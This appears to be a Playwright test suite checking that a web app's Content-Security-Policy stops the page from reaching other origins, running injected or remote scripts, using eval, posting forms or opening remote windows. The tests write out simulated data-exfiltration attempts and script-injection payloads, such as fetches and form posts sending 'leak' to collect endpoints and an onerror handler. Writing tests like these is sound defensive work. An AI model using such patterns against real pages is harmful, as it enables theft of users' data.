import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test, type Page } from '@playwright/test';
import { startWebApp, type WebApp } from '../support/webApp';
import { openWebApp } from '../support/webSession';

/**
 * The renderer in web mode is a page that cannot reach Node or any origin but its own (SPEC 4,
 * issue 6): no Node globals, and a Content-Security-Policy that stops remote fetches, remote and
 * inline scripts, eval, form posts and framing. A server of our own on another loopback port
 * counts every request, so "blocked" means it was never asked, not merely that it failed.
 */

interface Violation {
  directive: string;
  blocked: string;
}
/**
 * The few browser globals the page-side functions use, typed here because the node tsconfig has no
 * DOM library. Each function handed to page.evaluate runs in the page and casts globalThis itself.
 */
interface Element {
  textContent: string | null;
  src: string;
  innerHTML: string;
  method: string;
  action: string;
  name: string;
  value: string;
  childElementCount: number;
  appendChild(child: Element): void;
  submit(): void;
}
interface Probe {
  __violations: Violation[];
  __ran?: string[];
  document: {
    head: Element;
    body: Element;
    createElement(tag: string): Element;
    getElementById(id: string): Element | null;
    addEventListener(type: 'securitypolicyviolation', listener: (event: { effectiveDirective: string; blockedURI: string }) => void): void;
  };
  navigator: { sendBeacon(url: string, data: string): boolean };
  WebSocket: new (url: string) => unknown;
  open(url: string): unknown;
  eval(code: string): unknown;
  setTimeout(handler: string | (() => void), ms?: number): number;
  Function: FunctionConstructor;
}

let web: WebApp & { kill(): Promise<void> };
let elsewhere: http.Server;
let elsewhereOrigin: string;
const hits: string[] = [];

test.beforeAll(async () => {
  web = await startWebApp({ demoFamilies: 10 });
  elsewhere = http.createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'content-type': req.url?.endsWith('.js') ? 'text/javascript' : 'text/html', 'access-control-allow-origin': '*' });
    res.end(req.url?.endsWith('.js') ? 'window.__ran = (window.__ran || []).concat("remote script")' : '<p>elsewhere</p>');
  });
  await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
  elsewhereOrigin = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
});

test.afterAll(async () => {
  await new Promise<void>((resolve) => (elsewhere ? elsewhere.close(() => resolve()) : resolve()));
  await web?.stop();
});

test.beforeEach(() => {
  hits.length = 0;
});

/** Opens the app and waits until its own scripts have rendered something. */
async function openApp(page: Page) {
  // Injected by the browser, not by the page, so the page's CSP does not apply to this listener.
  await page.addInitScript(() => {
    const probe = globalThis as unknown as Probe;
    probe.__violations = [];
    probe.document.addEventListener('securitypolicyviolation', (event) => {
      probe.__violations.push({ directive: event.effectiveDirective, blocked: event.blockedURI });
    });
  });
  const response = await openWebApp(page, web.url);
  await page.waitForFunction(() => ((globalThis as unknown as Probe).document.getElementById('root')?.childElementCount ?? 0) > 0);
  return response!;
}

/** How many policy violations the page has reported so far. */
const violationCount = (page: Page) => page.evaluate(() => (globalThis as unknown as Probe).__violations.length);

/** Waits for the page to report a violation of `directive` for a URI starting with `blockedPrefix`, after the first `since` reports. */
const violation = (page: Page, directive: string, blockedPrefix = '', since = 0) =>
  page.waitForFunction(([d, b, n]) => (globalThis as unknown as Probe).__violations.slice(n).some((v) => v.directive === d && v.blocked.startsWith(b)), [
    directive,
    blockedPrefix,
    since,
  ] as const);

test('the page has no Node: require, process and module are undefined', async ({ page }) => {
  await openApp(page);
  const types = await page.evaluate(() => ({
    require: typeof (globalThis as Record<string, unknown>).require,
    process: typeof (globalThis as Record<string, unknown>).process,
    module: typeof (globalThis as Record<string, unknown>).module,
    Buffer: typeof (globalThis as Record<string, unknown>).Buffer,
  }));
  expect(types).toEqual({ require: 'undefined', process: 'undefined', module: 'undefined', Buffer: 'undefined' });
});

test('the Content-Security-Policy allows only the app itself', async ({ page }) => {
  const response = await openApp(page);
  const header = response.headers()['content-security-policy'];
  expect(header, 'the page is served with a CSP header').toBeTruthy();
  const directives = new Map(
    header!
      .split(';')
      .map((d) => d.trim().split(/\s+/))
      .filter((parts) => parts[0])
      .map(([name, ...values]) => [name!.toLowerCase(), values]),
  );
  const sources = (name: string) => directives.get(name) ?? directives.get('default-src') ?? [];
  expect(directives.get('default-src')).toEqual(["'self'"]);
  for (const scripts of ['script-src', 'script-src-elem', 'script-src-attr']) {
    expect(sources(scripts), scripts).not.toContain("'unsafe-inline'");
    expect(sources(scripts), scripts).not.toContain("'unsafe-eval'");
    expect(sources(scripts), scripts).not.toContain("'wasm-unsafe-eval'");
    expect(
      sources(scripts).every((s) => s === "'self'" || s === "'none'"),
      `${scripts}: no remote sources`,
    ).toBe(true);
  }
  expect(sources('connect-src')).toEqual(["'self'"]);
  expect(directives.get('object-src')).toEqual(["'none'"]);
  expect(directives.get('frame-ancestors'), 'frame-ancestors (the app is never framed)').toEqual(["'none'"]);
  expect(["'none'", "'self'"], 'base-uri').toContain(directives.get('base-uri')?.join(' '));
  expect(["'none'", "'self'"], 'form-action').toContain(directives.get('form-action')?.join(' '));
});

test('fetch, beacons, sockets, images, frames and style sheets to another origin are blocked before any request leaves the page', async ({ page }) => {
  await openApp(page);
  // Requests that completed anywhere but the app (a blocked one fails, it never finishes).
  const completed: string[] = [];
  page.on('requestfinished', (request) => {
    if (!request.url().startsWith(new URL(web.url).origin)) completed.push(request.url());
  });
  for (const target of [`${elsewhereOrigin}/data.json`, 'http://example.com/', 'https://example.com/collect']) {
    const outcome = await page.evaluate(async (url) => {
      try {
        await fetch(url, { method: 'POST', body: 'leak' });
        return 'reached';
      } catch {
        return 'blocked';
      }
    }, target);
    expect(outcome, 'fetch to another origin').toBe('blocked');
    await violation(page, 'connect-src', target);
  }
  // Other ways to send data out: a beacon and a WebSocket.
  await page.evaluate((url) => (globalThis as unknown as Probe).navigator.sendBeacon(url, 'leak'), `${elsewhereOrigin}/beacon`);
  await violation(page, 'connect-src', `${elsewhereOrigin}/beacon`);
  await page.evaluate(
    (url) => {
      try {
        new (globalThis as unknown as Probe).WebSocket(url);
      } catch {
        // blocked synchronously in some versions
      }
    },
    elsewhereOrigin.replace('http', 'ws'),
  );
  await violation(page, 'connect-src', elsewhereOrigin.replace('http', 'ws'));
  // ...and through markup: an image, a frame, a style sheet.
  await page.evaluate((origin) => {
    const { document } = globalThis as unknown as Probe;
    const holder = document.createElement('div');
    holder.innerHTML = `<img src="${origin}/pixel.png?pin=leak"><iframe src="${origin}/frame"></iframe><link rel="stylesheet" href="${origin}/style.css">`;
    document.body.appendChild(holder);
  }, elsewhereOrigin);
  await violation(page, 'img-src', `${elsewhereOrigin}/pixel.png`);
  // A cross-origin frame is reported by its origin only.
  await violation(page, 'frame-src', elsewhereOrigin);
  await violation(page, 'style-src-elem', `${elsewhereOrigin}/style.css`);
  expect(completed, 'requests to other origins that completed').toEqual([]);
  expect(hits, 'requests the other origin received').toEqual([]);
});

test('injected inline and remote scripts do not run, and eval and new Function are refused', async ({ page }) => {
  await openApp(page);
  const ran = await page.evaluate((remote) => {
    const probe = globalThis as unknown as Probe;
    const inline = probe.document.createElement('script');
    inline.textContent = 'window.__ran = (window.__ran || []).concat("inline script")';
    probe.document.head.appendChild(inline);
    const far = probe.document.createElement('script');
    far.src = remote;
    probe.document.head.appendChild(far);
    return probe.__ran ?? [];
  }, `${elsewhereOrigin}/payload.js`);
  expect(ran).toEqual([]);
  await violation(page, 'script-src-elem', 'inline');
  await violation(page, 'script-src-elem', `${elsewhereOrigin}/payload.js`);

  // An inline event handler smuggled in through markup.
  await page.evaluate(() => {
    const { document } = globalThis as unknown as Probe;
    const holder = document.createElement('div');
    holder.innerHTML = '<img src="/no-such-image.png" onerror="window.__ran = (window.__ran || []).concat(\'inline handler\')">';
    document.body.appendChild(holder);
  });
  await violation(page, 'script-src-attr', 'inline');

  // Run from a task of the page's own (a timer callback), not from inside the test driver's
  // evaluation, which the browser may exempt from the page's policy.
  // The app's own bundle may probe for eval at start (zod does, in a try/catch): count from here.
  const before = await violationCount(page);
  const code = await page.evaluate(
    () =>
      new Promise<Record<string, string>>((resolve) => {
        const probe = globalThis as unknown as Probe;
        probe.setTimeout(() => {
          const attempts: Record<string, string> = {};
          const attempt = (name: string, run: () => unknown) => {
            try {
              run();
              attempts[name] = 'ran';
            } catch (error) {
              attempts[name] = error instanceof Error ? error.name : 'refused';
            }
          };
          attempt('eval', () => probe.eval('1 + 1'));
          attempt('new Function', () => new probe.Function('return 1')());
          attempt('setTimeout(string)', () => probe.setTimeout('window.__ran = ["timer string"]'));
          resolve(attempts);
        });
      }),
  );
  expect(code.eval).toBe('EvalError');
  expect(code['new Function']).toBe('EvalError');
  await violation(page, 'script-src', 'eval', before);
  expect(await page.evaluate(() => (globalThis as unknown as Probe).__ran ?? [])).toEqual([]);
  expect(hits, 'requests the other origin received').toEqual([]);
});

test('a form posted to another origin is blocked and the page stays put', async ({ page }) => {
  await openApp(page);
  const before = page.url();
  await page.evaluate((action) => {
    const { document } = globalThis as unknown as Probe;
    const form = document.createElement('form');
    form.method = 'POST';
    form.action = action;
    const field = document.createElement('input');
    field.name = 'pin';
    field.value = 'leak';
    form.appendChild(field);
    document.body.appendChild(form);
    form.submit();
  }, `${elsewhereOrigin}/collect`);
  await violation(page, 'form-action', elsewhereOrigin);
  expect(page.url()).toBe(before);
  expect(hits, 'requests the other origin received').toEqual([]);
});

test('window.open to a remote address does not navigate anywhere', async ({ page, context }) => {
  await openApp(page);
  const popupEvent = context.waitForEvent('page', { timeout: 10_000 }).catch(() => null);
  const opened = await page.evaluate((url) => (globalThis as unknown as Probe).open(url) !== null, `${elsewhereOrigin}/popup`);
  if (opened) {
    // A window was created: let it finish whatever it does, then see where it is.
    const popup = await popupEvent;
    if (popup) {
      await popup.waitForLoadState('domcontentloaded');
      expect(popup.url(), 'the opened window').not.toContain(elsewhereOrigin);
    }
  }
  expect(page.url()).toContain(new URL(web.url).origin);
  expect(hits, 'requests the other origin received').toEqual([]);
});
